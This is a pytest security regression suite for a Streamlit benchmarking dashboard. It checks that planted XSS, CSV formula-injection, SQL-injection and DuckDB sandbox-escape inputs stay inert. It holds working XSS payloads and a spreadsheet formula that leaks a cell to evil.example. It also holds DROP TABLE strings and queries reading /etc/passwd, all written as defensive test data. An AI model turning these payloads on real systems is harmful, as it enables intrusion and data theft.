"""Security regressions (issue 7): hostile names render inert on every page, exports neutralise formulas,
crafted codes never reach SQL, the connection is sandboxed, the upload endpoint wants its XSRF token and
respects the size limit, internal errors reach users only as a generic message, lock-out and expiry hold.

The hostile store is a copy of the demo store in which one municipality, a peer group, an indicator and a
good practice carry names made to break HTML, markdown or SQL (test values, not data).
"""

from __future__ import annotations

import contextlib
import csv
import http.client
import io
import json
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from browser_support import log_in, serve, wait_ready
from page_support import built_copy, copy_store, dashboard_store
from playwright.sync_api import Page
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from streamlit.testing.v1 import AppTest
from websockets.sync.client import ClientConnection, connect

from benchlearn import api
from benchlearn.api import accounts, practices
from benchlearn.auth import Identity, LoginPolicy, utcnow
from benchlearn.errors import BenchlearnError
from benchlearn.exports import safe_csv
from benchlearn.i18n import t, tn
from benchlearn.ingest import IngestOptions
from benchlearn.ingest.practice_form import PracticeInput
from benchlearn.model import ENTITY_COLUMNS, Kind
from benchlearn.reports.spreadsheet import excel_bytes
from benchlearn.store import Store, open_store
from benchlearn.ui.navigation import SECTIONS

ROOT = Path(__file__).resolve().parents[1]
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(2)</script>"
SVG = "<svg onload=alert(3)>"
LINK = "[click me](javascript:alert(4))"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SQL_DOUBLE = 'x"; DROP TABLE observation; --'
SQL_SINGLE = "y'); DROP TABLE observation; --"
# what must never be live in a rendered page: tags and handlers, not the harmless words around them
LIVE = ("<img", "<script", "<svg", "onerror=", "onload=", "javascript:")
ADMIN, ADMIN_PW = "sec-admin", "security-admin-pw-1"
ENTITY, INDICATOR, PERIOD, NETWORK = "LT-01", "BIRTHS", "2017", "lt-municipalities"
PARAMS = {"entity": ENTITY, "peers": "country:LT", "indicator": INDICATOR, "period": PERIOD,
          "network": NETWORK, "x": "POP_DENSITY", "y": INDICATOR, "lang": "en"}
TIMEOUT = 60
REDACTED = ("This app has encountered an error. The original error message is redacted to prevent data "
            "leaks. Full error details have been recorded in the logs (if you're on Streamlit Cloud, "
            "click on 'Manage app' in the lower right of your app).")


# --- the hostile store -----

def table_csv(rows: list[list[object]]) -> bytes:
    """Rows as CSV bytes (the csv module quotes what needs quoting)."""
    out = io.StringIO()
    csv.writer(out).writerows([["" if v is None or v != v else v for v in row] for row in rows])
    return out.getvalue().encode()


def make_hostile(store: Store) -> None:
    """Give a municipality, an indicator, a peer group and a practice hostile names, through the api."""
    entities = api.entities(store).set_index("code")
    row = entities.loc[ENTITY].to_dict() | {"name": IMG, "aliases": None}
    entity_row = [ENTITY] + [row[c] for c in ENTITY_COLUMNS[1:]]
    api.ingest_bytes(store, table_csv([list(ENTITY_COLUMNS), entity_row]), "entities.csv",
                     IngestOptions(kind=Kind.ENTITIES))
    meta = api.indicators(store).set_index("code").loc[INDICATOR]
    header = ["code", "name", "unit", "polarity", "name_lt", "name_lv", "min"]
    api.ingest_bytes(store, table_csv([header, [INDICATOR, SVG, meta["unit"], meta["polarity"], SCRIPT, LINK,
                                                meta["min_value"]]]),
                     "indicators.csv", IngestOptions(kind=Kind.INDICATORS))
    api.ingest_bytes(store, table_csv([["group", "entity_code", "group_kind", "group_name"],
                                       ["XSS-PEERS", ENTITY, "peer_group", IMG],
                                       ["XSS-PEERS", "LT-02", "peer_group", IMG]]),
                     "members.csv", IngestOptions(kind=Kind.MEMBERS))
    accounts.add_user(store, ADMIN, ADMIN_PW, "admin")
    practices.add(store, Identity.issue(ADMIN, "admin"), PracticeInput(
        entity_code=ENTITY, title=IMG, body=f"{SCRIPT} {LINK} {FORMULA}", indicator_codes=(INDICATOR,),
        network_code=NETWORK, contact=SVG, started_period=PERIOD, language="en"))


@pytest.fixture(scope="module")
def hostile_template(demo_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo store with the hostile names, built once; tests copy it (a running server locks its file)."""
    return built_copy(demo_db, tmp_path_factory.mktemp("hostile"), "hostile", make_hostile)


@pytest.fixture
def hostile_db(hostile_template: Path, tmp_path: Path) -> Path:
    """A private copy of the hostile store."""
    return copy_store(hostile_template, tmp_path, "hostile")


@pytest.fixture
def shared(hostile_db: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    """The dashboard's own store on the hostile copy (AppTest runs the pages in this process)."""
    with dashboard_store(hostile_db, monkeypatch) as store:
        yield store


def page_files() -> list[str]:
    """Every page of the menu that exists in the checkout."""
    return [path for pages in SECTIONS.values() for path, *_ in pages if (ROOT / path).exists()]


def run_page(path: str, identity: Identity | None = None, params: dict[str, str] = PARAMS) -> AppTest:
    """One page of the dashboard with the comparison in the URL (and a logged-in identity, if given)."""
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=TIMEOUT)
    for key, value in params.items():
        at.query_params[key] = value
    if identity is not None:
        at.session_state["identity"] = identity
    return at.switch_page(path).run()


def elements(node: object) -> Iterator[object]:
    """Every element and block under an AppTest node."""
    yield node
    children = getattr(node, "children", None)
    if isinstance(children, dict):
        for child in children.values():
            yield from elements(child)


# text fields Streamlit renders as markdown; st.text, st.code and st.json show plain text
MARKDOWN_FIELDS = ("body", "label", "help", "caption", "placeholder")
PLAIN_TEXT = {"Text", "Code", "Json"}


def live_markup(at: AppTest) -> list[str]:
    """Places where hostile markup would be interpreted: HTML allowed, st.html, or raw tags in markdown."""
    found = []
    for node in elements(at._tree):
        proto = getattr(node, "proto", None)
        if proto is None:
            continue
        kind = type(proto).__name__
        if kind == "Html" and any(m in proto.body for m in LIVE):
            found.append(f"st.html carries {proto.body[:80]!r}")
        for name in MARKDOWN_FIELDS:
            if kind in PLAIN_TEXT or name not in proto.DESCRIPTOR.fields_by_name:
                continue
            text = getattr(proto, name)
            if not isinstance(text, str) or not any(m in text for m in LIVE):
                continue
            if getattr(proto, "allow_html", False):
                found.append(f"{kind}.{name} allows HTML and carries {text[:80]!r}")
            # as markdown, a tag or a javascript: link must arrive escaped (\<img …, \[click me\]\(…)
            elif any(raw in text.replace("\\<", "").replace("\\:", "") for raw in ("<img", "<script", "<svg",
                                                                                    "javascript:")):
                found.append(f"{kind}.{name} carries raw markup {text[:80]!r}")
    return found


def shows_hostile_text(at: AppTest) -> bool:
    """True when the page shows one of the hostile names somewhere (as text, escaped or in data)."""
    return any("onerror" in str(getattr(node, "proto", "")) or "onload" in str(getattr(node, "proto", ""))
               for node in elements(at._tree))


# --- hostile names render inert -----

# the elements the payloads would create if they were live
INJECTED = 'img[src="x"], script:has-text("alert("), svg[onload], [onerror]'


def test_hostile_names_render_inert_on_every_page(shared: Store) -> None:
    """Every page, logged in as an admin so the protected ones render too: no hostile markup is live."""
    admin = Identity.issue(ADMIN, "admin")
    problems, showing = {}, []
    for path in page_files():
        at = run_page(path, admin)
        assert not at.exception, f"{path}: {[e.value for e in at.exception]}"
        if found := live_markup(at):
            problems[path] = found
        if shows_hostile_text(at):
            showing.append(path)
    assert not problems, json.dumps(problems, indent=1, ensure_ascii=False)
    # the check means something only where the names are shown: at least the pages built around them
    assert {"pages/profile.py", "pages/ranking.py", "pages/practices.py"} <= set(showing), showing


def test_hostile_names_do_not_run_in_a_browser(hostile_db: Path, tmp_path: Path, page: Page) -> None:
    """In Chromium, on every page: no dialog opens, no injected image or script element exists."""
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # the detectors work: the same markup made live on a blank page opens a dialog and is found
    page.set_content(f"<body>{IMG}</body>")
    page.wait_for_timeout(300)
    assert dialogs == ["1"] and page.locator(INJECTED).count() == 1
    dialogs.clear()
    query = "&".join(f"{k}={v}" for k, v in PARAMS.items())
    with serve(hostile_db, tmp_path / "streamlit.log") as url:
        log_in(page, url, ADMIN, ADMIN_PW)
        visited = []
        for path in page_files():
            page.goto(f"{url}/{Path(path).stem}?{query}")
            wait_ready(page, timeout_ms=60_000)
            page.wait_for_timeout(300)  # an onerror handler fires once the broken image has failed to load
            injected = page.locator(INJECTED).count()
            assert injected == 0, f"{path}: {injected} injected elements"
            visited.append(path)
        page.goto(f"{url}/profile?{query}")
        wait_ready(page)
        assert page.get_by_text(IMG).count() > 0, "the hostile name should be shown, as text"
    assert not dialogs, dialogs
    assert len(visited) == len(page_files())


# --- exports -----

def test_exports_neutralise_formulas_and_keep_negative_numbers_numeric(shared: Store) -> None:
    """A ranking with a formula-shaped name: CSV and Excel cells are text; negative numbers stay numbers."""
    table = api.compare_indicator(shared, INDICATOR, PERIOD, "country:LT").table
    table = table.assign(entity_name=table["entity_name"].where(table["entity_code"] != "LT-02", FORMULA))
    extra = pd.DataFrame({"entity_code": ["T-1", "T-2", "T-3"],
                          "entity_name": ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-12,5"],
                          "value": [-5.5, -0.25, -1e6]})
    frame = pd.concat([table[["entity_code", "entity_name", "value"]], extra], ignore_index=True)
    rows = list(csv.reader(io.StringIO(safe_csv(frame).decode("utf-8-sig"))))
    names = {r[0]: r[1] for r in rows[1:]}
    values = {r[0]: r[2] for r in rows[1:]}
    assert names["LT-02"] == "'" + FORMULA
    assert names["T-1"].startswith("'") and names["T-2"].startswith("'")
    assert names["T-3"] == "-12,5"  # text that is just a number stays as written
    assert [float(values[c]) for c in ("T-1", "T-2", "T-3")] == [-5.5, -0.25, -1e6]

    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes({"ranking": frame}))).worksheets[0]
    cells = {r[0].value: (r[1], r[2]) for r in sheet.iter_rows(min_row=2)}
    name, _ = cells["LT-02"]
    assert name.data_type == "s" and name.value == "'" + FORMULA
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)  # no live formula anywhere
    for code, expected in (("T-1", -5.5), ("T-2", -0.25), ("T-3", -1e6)):
        assert cells[code][1].data_type == "n" and cells[code][1].value == expected


# --- SQL injection -----

def table_counts(store: Store) -> dict[str, int]:
    """Every table of the store with its row count."""
    with store.cursor() as cur:
        return {r[0]: cur.execute(f'SELECT count(*) FROM "{r[0]}"').fetchall()[0][0]  # noqa: S608
                for r in cur.execute("SELECT table_name FROM information_schema.tables").fetchall()}


def test_crafted_codes_and_column_names_never_reach_sql(app_db: Path) -> None:
    """Codes and column names shaped like SQL are refused at ingest with the bad value named, writing nothing
    (issue 11.10: codes are ASCII letters, digits, - _ .); names shaped like SQL are stored as plain text, and
    crafted codes typed into queries compare as plain text; nothing is dropped."""
    store = open_store(app_db)
    safe = "SQLI.1"
    try:
        tables = table_counts(store)
        codes = api.entities(store).query("country == 'LT' and kind == 'municipality'")["code"].tolist()
        crafted = [  # a crafted indicator code, a wide file's crafted column name, a crafted group code
            (table_csv([["code", "name", "unit", "polarity"], [SQL_DOUBLE, "x", "index", "higher_better"]]),
             "indicators.csv", IngestOptions(kind=Kind.INDICATORS, network=NETWORK), SQL_DOUBLE),
            (table_csv([["entity_code", "period", SQL_DOUBLE]] + [[c, PERIOD, "1"] for c in codes]),
             "wide.csv", IngestOptions(network=NETWORK), SQL_DOUBLE),
            (table_csv([["group", "entity_code", "group_kind"], [SQL_SINGLE, ENTITY, "peer_group"]]),
             "members.csv", IngestOptions(kind=Kind.MEMBERS), SQL_SINGLE),
        ]
        for data, name, options, bad in crafted:
            with pytest.raises(BenchlearnError) as caught:
                api.ingest_bytes(store, data, name, options)
            assert bad in caught.value.message and name in caught.value.message
            assert "duckdb" not in caught.value.message.lower()
            assert table_counts(store) == tables, name  # nothing written
        # a crafted name is only text: stored as written, under a safe code whose values then load
        api.ingest_bytes(store, table_csv([["code", "name", "unit", "polarity"],
                                           [safe, SQL_SINGLE, "index", "higher_better"]]),
                         "indicators.csv", IngestOptions(kind=Kind.INDICATORS, network=NETWORK))
        wide = [["entity_code", "period", safe]] + [[c, PERIOD, str(i)] for i, c in enumerate(codes)]
        api.ingest_bytes(store, table_csv(wide), "wide.csv", IngestOptions(network=NETWORK))
        comparison = api.compare_indicator(store, safe, PERIOD, f"network:{NETWORK}")
        assert comparison.table["value"].notna().sum() == len(codes)
        assert comparison.indicator["name_en"] == SQL_SINGLE
        # crafted codes arriving in queries (links, the CLI) are looked up as values, never spliced in
        for call in (lambda: api.compare_indicator(store, SQL_SINGLE, PERIOD, "all"),
                     lambda: api.compare_indicator(store, INDICATOR, PERIOD, f"network:{SQL_DOUBLE}"),
                     lambda: api.resolve(store, f"group:{SQL_DOUBLE}"),
                     lambda: api.resolve(store, f"group:{SQL_SINGLE}")):
            with pytest.raises(BenchlearnError) as caught:
                call()
            assert "duckdb" not in caught.value.message.lower()
        profile, _, _ = api.profile(store, SQL_DOUBLE, PERIOD, "all")  # unknown entity: no values, no error
        assert profile["value"].isna().all()
        after = table_counts(store)
        assert after.keys() == tables.keys()  # no table dropped
        assert after["observation"] == tables["observation"] + len(codes)
    finally:
        store.close()


# --- the sandbox -----

@pytest.mark.parametrize("sql", [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd')",
    "ATTACH '{other}' AS other",
    "ATTACH '{beside}' AS beside",
    "COPY (SELECT 1) TO '{copy}'",
    "SET enable_external_access = true",
    "SET allowed_directories = ['/']",
    "INSTALL httpfs",
], ids=["read_csv", "read_text", "attach_elsewhere", "attach_beside", "copy_to", "external_access",
        "widen_directories", "install"])
def test_the_apps_connection_cannot_read_files_or_attach_databases(
        app_db: Path, tmp_path_factory: pytest.TempPathFactory, sql: str) -> None:
    """The connection the dashboard uses refuses files outside its sandbox and changes to the sandbox."""
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    other = elsewhere / "other.duckdb"
    duckdb.connect(str(other)).close()
    beside = app_db.with_name("beside.duckdb")
    duckdb.connect(str(beside)).close()
    store = open_store(app_db)
    try:
        with store.cursor() as cur, pytest.raises(duckdb.Error):
            cur.execute(sql.format(other=other, beside=beside, copy=elsewhere / "leak.csv")).fetchall()
        assert not (elsewhere / "leak.csv").exists()
    finally:
        store.close()


# --- the upload endpoint of the real server -----

class Session:
    """A Streamlit session over the WebSocket, speaking the protocol as a browser does."""

    def __init__(self, ws: ClientConnection) -> None:
        self.ws = ws
        self.id = ""

    def run(self, page: str, query: str = "") -> list[ForwardMsg]:
        """Run a page with the URL's query string; return every message up to the end of the run."""
        msg = BackMsg()
        msg.rerun_script.page_name = page
        msg.rerun_script.query_string = query
        self.ws.send(msg.SerializeToString())
        received = []
        while True:
            forward = ForwardMsg()
            forward.ParseFromString(self.ws.recv(timeout=120))
            received.append(forward)
            if forward.WhichOneof("type") == "new_session":
                self.id = forward.new_session.initialize.session_id
            if forward.WhichOneof("type") == "script_finished":
                return received


@contextmanager
def session(url: str) -> Iterator[Session]:
    """An open session for the block; the server ends it when the socket closes."""
    with connect(url.replace("http://", "ws://") + "/_stcore/stream", subprotocols=["streamlit"],
                 max_size=None, open_timeout=30) as ws:
        yield Session(ws)


def _xsrf_cookie(url: str) -> str:
    """The XSRF cookie the server hands a browser with the app's page."""
    host, port = url.removeprefix("http://").split(":")
    con = http.client.HTTPConnection(host, int(port), timeout=30)
    con.request("GET", "/_stcore/health")  # what the page polls first; it sets the cookie
    response = con.getresponse()
    response.read()
    cookies = [v for k, v in response.getheaders()
               if k.lower() == "set-cookie" and v.startswith("_streamlit_xsrf=")]
    assert cookies, "the server set no XSRF cookie"
    return cookies[0].split(";")[0].split("=", 1)[1]


def _put(url: str, path: str, body: bytes, headers: dict[str, str], method: str = "PUT") -> int:
    """Send a request with `body` and return the status (the server may answer before reading it all)."""
    host, port = url.removeprefix("http://").split(":")
    con = http.client.HTTPConnection(host, int(port), timeout=60)
    con.putrequest(method, path)
    for key, value in headers.items():
        con.putheader(key, value)
    con.endheaders()
    with contextlib.suppress(BrokenPipeError, ConnectionResetError):
        con.send(body)  # the server may refuse early and close: the status is what counts
    status = con.getresponse().status
    con.close()
    return status


def _multipart(data: bytes) -> tuple[bytes, str]:
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"v.csv\"\r\n"
            f"Content-Type: text/csv\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def test_uploads_need_the_xsrf_token_and_respect_the_size_limit(app_db: Path, tmp_path: Path) -> None:
    """PUT /_stcore/upload_file/<session>/<file>: 403 without the token, 204 with it, 413 over 20 MB."""
    with serve(app_db, tmp_path / "streamlit.log") as url, session(url) as browser:
        browser.run("home")
        # the session stays open all along: uploads belong to a live session
        cookie = _xsrf_cookie(url)
        path = f"/_stcore/upload_file/{browser.id}/{uuid.uuid4()}"
        small, kind = _multipart(b"entity_code,indicator_code,period,value\nLT-01,BIRTHS,2017,1\n")
        plain = {"Content-Type": kind, "Content-Length": str(len(small))}
        token = {**plain, "Cookie": f"_streamlit_xsrf={cookie}", "X-Xsrftoken": cookie}
        assert _put(url, path, small, plain) == 403
        assert _put(url, path, small, {**plain, "Cookie": f"_streamlit_xsrf={cookie}"}) == 403
        assert _put(url, path, small, {**plain, "X-Xsrftoken": cookie}) == 403
        assert _put(url, path, small, token) == 204  # the same request with the token is accepted
        large, kind = _multipart(b"0" * (21 * 1024 * 1024))
        sized = {**token, "Content-Type": kind, "Content-Length": str(len(large))}
        assert _put(url, f"/_stcore/upload_file/{browser.id}/{uuid.uuid4()}", large, sized) == 413
        # without a Content-Length the server counts while it reads
        chunked = {k: v for k, v in sized.items() if k != "Content-Length"}
        chunked["Transfer-Encoding"] = "chunked"
        stream = b"".join(f"{len(part):x}\r\n".encode() + part + b"\r\n"
                          for part in (large[i:i + (1 << 20)] for i in range(0, len(large), 1 << 20)))
        assert _put(url, f"/_stcore/upload_file/{browser.id}/{uuid.uuid4()}", stream + b"0\r\n\r\n",
                    chunked) == 413
        assert _put(url, path, small, token, method="POST") == 405  # uploads are PUT only


# --- errors stay on the server -----

# Fault injection for the next test: the server's Python imports this first (sitecustomize) and replaces one
# api function by one that makes DuckDB fail with a message naming a file, as an internal error would.
FAULT = """
from benchlearn import api

def compare_indicator(store, *args, **kwargs):
    with store.cursor() as cur:
        cur.execute("SELECT * FROM read_csv('/etc/passwd')").fetchall()

api.compare_indicator = compare_indicator
"""


def shown_errors(messages: list[ForwardMsg]) -> tuple[list[str], list[str]]:
    """(error boxes, exception elements) a page run drew."""
    boxes, exceptions = [], []
    for msg in messages:
        if msg.WhichOneof("type") != "delta" or msg.delta.WhichOneof("type") != "new_element":
            continue
        element = msg.delta.new_element
        if element.WhichOneof("type") == "alert" and element.alert.format == element.alert.ERROR:
            boxes.append(element.alert.body)
        elif element.WhichOneof("type") == "exception":
            exceptions.append(element.exception.message + " ".join(element.exception.stack_trace))
    return boxes, exceptions


def test_an_internal_error_reaches_the_browser_only_as_a_generic_message(
        app_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A DuckDB error naming a file, inside the ranking page of a real server: nothing of it is sent.

    A first visit straight to the page's URL runs the page file without dashboard.py (ARCHITECTURE §4): the
    handler page_setup installs shows our generic message there too, not Streamlit's box (issue 11, point 13).
    Once a session has run dashboard.py, pages run inside its guard, which logs the error and shows the same.
    """
    (tmp_path / "fault").mkdir()
    (tmp_path / "fault" / "sitecustomize.py").write_text(FAULT, encoding="utf-8")
    monkeypatch.setenv("PYTHONPATH", f"{tmp_path / 'fault'}:{ROOT}")
    query = "&".join(f"{k}={v}" for k, v in PARAMS.items())
    with serve(app_db, tmp_path / "streamlit.log") as url:
        with session(url) as first:
            direct = first.run("ranking", query)
            first.run("")  # the root URL: dashboard.py itself, which switches the app to its st.navigation
        with session(url) as later:
            guarded = later.run("ranking", query)
    assert shown_errors(direct) == ([t("error.unexpected", "en")], [])
    assert shown_errors(guarded) == ([t("error.unexpected", "en")], [])
    # everything the pages drew (Streamlit's own session messages carry the app's path whatever a page does)
    drawn = b"".join(m.SerializeToString() for m in direct + guarded if m.WhichOneof("type") == "delta")
    for leak in (b"/etc/passwd", b"Permission", b"duckdb", b"Traceback", b"read_csv", str(ROOT).encode(),
                 REDACTED.encode()):
        assert leak not in drawn
    assert b"/etc/passwd" in (tmp_path / "streamlit.log").read_bytes()  # the details went to the server log


# --- login lock-out and session expiry ---------------------------------------------------------------------

def _log_in(at: AppTest, username: str, password: str) -> AppTest:
    at.text_input(key="login_username").input(username)
    at.text_input(key="login_password").input(password)
    submit = next(b for b in at.button if (b.key or "").startswith("FormSubmitter:login_form"))
    return submit.click().run()


def test_lock_out_holds_even_against_the_right_password(
        shared: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """Five wrong passwords through the form lock the account: the right one is then refused too."""
    monkeypatch.setattr(accounts, "DEFAULT_POLICY", LoginPolicy(delay_seconds=0, max_delay_seconds=0))
    at = run_page("pages/upload.py", params={})
    for _ in range(5):
        at = _log_in(at, ADMIN, "wrong-password-123")
    at = _log_in(at, ADMIN, ADMIN_PW)
    assert "identity" not in at.session_state
    assert at.error[-1].value == tn("login.locked", 15, "en", minutes=15)
    assert not at.get("file_uploader")


def test_an_expired_session_gets_the_login_form_not_the_page(shared: Store) -> None:
    """An identity idle for longer than the policy allows is dropped: the upload page asks to log in."""
    identity = Identity.issue(ADMIN, "admin", now=utcnow() - timedelta(minutes=61))
    at = run_page("pages/upload.py", identity, params={})
    assert "identity" not in at.session_state
    assert not at.get("file_uploader")
    assert at.text_input(key="login_password") is not None
    fresh = run_page("pages/upload.py", Identity.issue(ADMIN, "admin"), params={})
    assert fresh.get("file_uploader")  # the same account with a live session gets the form
